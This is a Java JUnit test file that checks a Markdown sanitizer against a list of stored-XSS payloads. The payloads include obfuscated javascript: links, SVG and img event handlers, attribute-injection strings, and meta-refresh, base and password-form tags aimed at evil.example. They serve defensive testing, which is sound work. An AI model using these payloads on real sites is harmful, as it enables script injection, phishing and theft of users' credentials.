package org.healthequity.exchange.shared.text;

import java.util.List;
import java.util.Locale;

import org.junit.jupiter.api.Tag;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Stored XSS through Markdown beyond the cheat-sheet basics that {@code RichTextTest} covers: schemes hidden by
 * entities, escapes, autolinks, reference links and line breaks; link titles and image sources that try to add an
 * attribute; SVG and data: images. Whatever the stored text, the rendered HTML holds only the small allow-list, every
 * link is http(s) or mailto, and no attribute but href and rel survives.
 */
@Tag("attack")
class RichTextAttackTest {

    static List<String> payloads() {
        return List.of(
                "[x](javascript&#58;alert(1))",
                "[x](javascript&#x3A;alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](java\\script:alert(1))",
                "[x](<javascript:alert(1)>)",
                "[x]( javascript:alert(1))",
                "[x](\tjavascript:alert(1))",
                "[x](vbscript:msgbox(1))",
                "[x](file:///etc/passwd)",
                "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
                "<javascript:alert(1)>",
                "<data:text/html,<script>alert(1)</script>>",
                "[x][evil]\n\n[evil]: javascript:alert(1)",
                "[x][evil]\n\n[evil]: https://ok.example \"t\" onmouseover=\"alert(1)",
                "[x](https://ok.example \"title\\\" onmouseover=\\\"alert(1)\")",
                "[x](https://ok.example' onmouseover='alert(1))",
                "[x](https://ok.example\"onmouseover=\"alert(1))",
                "![x](javascript:alert(1))",
                "![x](data:image/svg+xml,<svg onload=alert(1)>)",
                "![x](https://ok.example/x.svg)",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<a href=\"https://ok.example\" style=\"position:fixed;inset:0\">x</a>",
                "<a href=\"https://ok.example\" target=\"_top\" formaction=\"javascript:alert(1)\">x</a>",
                "<form action=\"https://evil.example\"><input name=p type=password></form>",
                "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
                "<base href=\"https://evil.example/\">",
                "<object data=\"javascript:alert(1)\"></object>",
                "<embed src=\"javascript:alert(1)\">",
                "<style>body{display:none}</style>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "`<script>alert(1)</script>`",
                "```\n<script>alert(1)</script>\n```",
                "<!--><script>alert(1)</script>-->",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
                "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
                        + "&#0000116&#0000058alert(1)\">x</a>",
                "[x](https://ok.example/\u2028javascript:alert(1))",
                "<img src=\"x\" onerror=\"alert(1)\"/>",
                "<<img src=x onerror=alert(1)//>");
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void storedMarkdownNeverRendersAScriptOrADangerousLink(String payload) {
        for (String html : List.of(RichText.toSafeHtml(payload), RichText.toSafeHtml(RichText.clean(payload)))) {
            SafeHtml.assertOnlyAllowedMarkup(html);
            // Escaped text may still read "javascript:", harmlessly; no raw element outside the allow-list may.
            assertThat(html.toLowerCase(Locale.ROOT)).as(html).doesNotContain("<script", "<svg", "<img", "<iframe",
                    "<object", "<embed", "<form", "<meta", "<base", "<style", "<link");
        }
    }

    @ParameterizedTest
    @MethodSource("payloads")
    void plainTextForMailAndCalendarsCarriesNoMarkup(String payload) {
        String text = RichText.plainText(RichText.clean(payload)).toLowerCase(Locale.ROOT);
        assertThat(text).doesNotContain("<script", "<img", "<svg", "<a ", "<iframe", "<object", "<embed");
    }
}
